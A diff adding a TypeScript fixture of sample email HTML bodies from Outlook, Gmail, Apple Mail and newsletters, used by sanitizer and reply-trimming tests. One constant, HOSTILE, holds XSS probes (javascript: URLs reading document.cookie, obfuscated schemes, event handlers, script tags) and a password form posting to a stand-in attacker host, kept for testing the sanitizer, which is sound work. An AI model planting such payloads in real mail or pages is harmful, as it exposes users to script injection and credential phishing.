@@ -0,0 +1,116 @@
+/*
+ * Email HTML Samples
+ *
+ * Trimmed-down bodies in the shape Microsoft Graph returns them for
+ * real-world mail clients and senders. Used by the sanitizer and
+ * reply-trimming test suites.
+ */
+
+// Outlook desktop (Word HTML): conditional comments, <o:p>, mso CSS, VML
+export const OUTLOOK_DESKTOP = `<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">
+<head>
+<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
+<meta name="Generator" content="Microsoft Word 15 (filtered medium)">
+<!--[if gte mso 9]><xml>
+<o:shapedefaults v:ext="edit" spidmax="1026" />
+</xml><![endif]-->
+<style><!--
+p.MsoNormal { margin:0cm; font-size:11.0pt; font-family:"Calibri",sans-serif; }
+--></style>
+</head>
+<body lang="EN-US" link="#0563C1" vlink="#954F72" style="word-wrap:break-word">
+<div class="WordSection1">
+<p class="MsoNormal" style="margin:0cm;mso-line-height-rule:exactly;font-size:11.0pt;font-family:&quot;Calibri&quot;,sans-serif">Hi team,<o:p></o:p></p>
+<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
+<p class="MsoNormal">Budget for Q3 is <b><span style="color:#C00000;mso-fareast-font-family:Calibri">approved</span></b>.<o:p></o:p></p>
+<!--[if gte vml 1]><v:shape id="Picture_x0020_1" style="width:100pt"><v:imagedata src="image001.png" o:title="" /></v:shape><![endif]-->
+<p class="MsoNormal">Thanks &amp; regards,<o:p></o:p></p>
+</div>
+</body>
+</html>`;
+
+// Gmail: gmail_quote block, dir attributes, nested blockquote
+export const GMAIL_REPLY = `<div dir="ltr">Sounds good, see you Friday.<br clear="all"><div><br></div>-- <br><div dir="ltr" class="gmail_signature">Jane Doe<br>Product Manager</div></div><br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Mon, Jun 3, 2024 at 9:15 AM John Smith &lt;<a href="mailto:john@example.com">john@example.com</a>&gt; wrote:<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex"><div dir="ltr">Can we meet on Friday?</div></blockquote></div>`;
+
+// Marketing newsletter: nested layout tables, hidden preheader, tracking pixel, CSS background
+export const NEWSLETTER = `<!DOCTYPE html>
+<html><head><style>.button{background:#0078d4}</style></head>
+<body style="margin:0;padding:0;background:url(https://cdn.example.com/bg.png)">
+<span style="display:none;max-height:0;overflow:hidden">Preheader text you should not see</span>
+<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0">
+  <tr><td align="center" bgcolor="#f4f4f4">
+    <table width="600" cellpadding="0" cellspacing="0" border="0">
+      <tr><td style="padding:20px;font-family:Arial,sans-serif;font-size:16px;color:#333333">
+        <h1 style="margin:0;font-size:24px">Monthly Update</h1>
+        <p>Read the <a href="https://news.example.com/article?id=42&amp;utm_source=mail">full article</a>.</p>
+      </td></tr>
+    </table>
+  </td></tr>
+</table>
+<img src="https://u123.ct.sendgrid.net/wf/open?upn=abc" alt="" width="1" height="1" border="0" style="height:1px!important;width:1px!important">
+<img src="https://cdn.example.com/logo.png" alt="Example Corp" width="120" height="40">
+</body></html>`;
+
+// Hostile content: script, event handlers, javascript: URLs, obfuscated schemes
+export const HOSTILE = `<div onclick="steal()" onmouseover="steal()">Click <a href="javascript:alert(document.cookie)">here</a>
+<a href="jav&#x09;ascript:alert(1)">or here</a>
+<img src="x" onerror="alert(1)">
+<img src="https://example.com/chart.png" onload="alert(2)" alt="Chart">
+<script>alert('xss')</script>
+<iframe src="https://evil.example.com"></iframe>
+<form action="https://evil.example.com/login"><input type="password" name="p"><button>Sign in</button></form>
+<p style="color:red;background-image:url(javascript:alert(3));width:expression(alert(4))">Styled</p>
+<svg><script>alert(5)</script></svg>
+<object data="evil.swf"></object><embed src="evil.swf">
+</div>`;
+
+// Data table that must stay a table
+export const DATA_TABLE = `<table border="1" cellpadding="4">
+<caption>Quarterly numbers</caption>
+<thead><tr><th>Quarter</th><th>Revenue</th></tr></thead>
+<tbody>
+<tr><td>Q1</td><td align="right">$1,200</td></tr>
+<tr><td>Q2</td><td align="right">$1,450</td></tr>
+</tbody>
+</table>`;
+
+// Apple Mail: blockquote type=cite, Apple-interchange-newline
+export const APPLE_MAIL_REPLY = `<html><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head><body dir="auto">Works for me.<br><br><div dir="ltr">Sent from my iPhone</div><div dir="ltr"><br><blockquote type="cite">On Jun 3, 2024, at 10:02, John Smith &lt;john@example.com&gt; wrote:<br><br></blockquote></div><blockquote type="cite"><div dir="ltr">Lunch at noon?<br class="Apple-interchange-newline"></div></blockquote></body></html>`;
+
+// Outlook desktop reply: "-----Original Message-----" style header block with border-top div
+export const OUTLOOK_REPLY = `<html><body><div class="WordSection1"><p class="MsoNormal">Attached is the final version.<o:p></o:p></p><p class="MsoNormal"><o:p>&nbsp;</o:p></p><p class="MsoNormal">Best regards,<o:p></o:p></p><p class="MsoNormal">Alex<o:p></o:p></p><p class="MsoNormal">Contoso Ltd. | +1 555 0100<o:p></o:p></p><p class="MsoNormal"><o:p>&nbsp;</o:p></p><div id="divRplyFwdMsg" style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm"><p class="MsoNormal"><b>From:</b> Sam Lee &lt;sam@contoso.com&gt;<br><b>Sent:</b> Monday, June 3, 2024 9:00 AM<br><b>To:</b> Alex &lt;alex@contoso.com&gt;<br><b>Subject:</b> Draft<o:p></o:p></p></div><p class="MsoNormal">Please send the final version.<o:p></o:p></p></div></body></html>`;
+
+// Malformed markup: unclosed tags, stray brackets and ampersands
+export const MALFORMED = `<div><p>Price < 5 & falling<p>Second <b>bold <i>both</b> italic</i></div></span>Trailing`;
+
+// Outlook on the web reply: <hr tabindex="-1"> followed by the header block
+export const OWA_REPLY = `<div style="font-family:Aptos,sans-serif">Confirmed, thanks!</div><div id="appendonsend"></div><hr style="display:inline-block;width:98%" tabindex="-1"><div id="divRplyFwdMsg" dir="ltr"><font face="Calibri, sans-serif" style="font-size:11pt" color="#000000"><b>From:</b> Sam Lee &lt;sam@contoso.com&gt;<br><b>Sent:</b> Tuesday, June 4, 2024 8:30 AM<br><b>To:</b> Alex &lt;alex@contoso.com&gt;<br><b>Subject:</b> Order 1234</font><div>&nbsp;</div></div><div>Can you confirm order 1234?</div>`;
+
+// Corporate mail with a gateway disclaimer and no quoted history
+export const DISCLAIMER_FOOTER = `<div><p>The contract is signed and filed.</p><p>Regards,<br>Pat</p><p style="font-size:8pt;color:gray">CONFIDENTIALITY NOTICE: This e-mail and any attachments are confidential and intended solely for the addressee.</p></div>`;
+
+// Forward without a comment - everything is quoted, nothing may be trimmed
+export const BARE_FORWARD = `<div><div>---------- Forwarded message ---------<br>From: Sam Lee &lt;sam@contoso.com&gt;<br>Date: Mon, Jun 3, 2024<br>Subject: Draft<br>To: Alex &lt;alex@contoso.com&gt;<br></div><div>Please review the draft.</div></div>`;
+
+// Plain-text reply with an Original Message separator
+export const PLAIN_TEXT_ORIGINAL_MESSAGE = `Yes, Thursday works.
+
+Thanks,
+Kim
+
+-----Original Message-----
+From: Lee, Sam <sam@contoso.com>
+Sent: Wednesday, June 5, 2024 4:12 PM
+To: Kim <kim@contoso.com>
+Subject: Review
+
+Does Thursday work for the review?`;
+
+// Plain-text reply with a wrapped "On ... wrote:" header and > quoting
+export const PLAIN_TEXT_WROTE_HEADER = `Looks good to me.
+
+On Wed, Jun 5, 2024 at 4:12 PM Sam Lee <
+sam@contoso.com> wrote:
+
+> Does Thursday work for the review?
+> Sam`;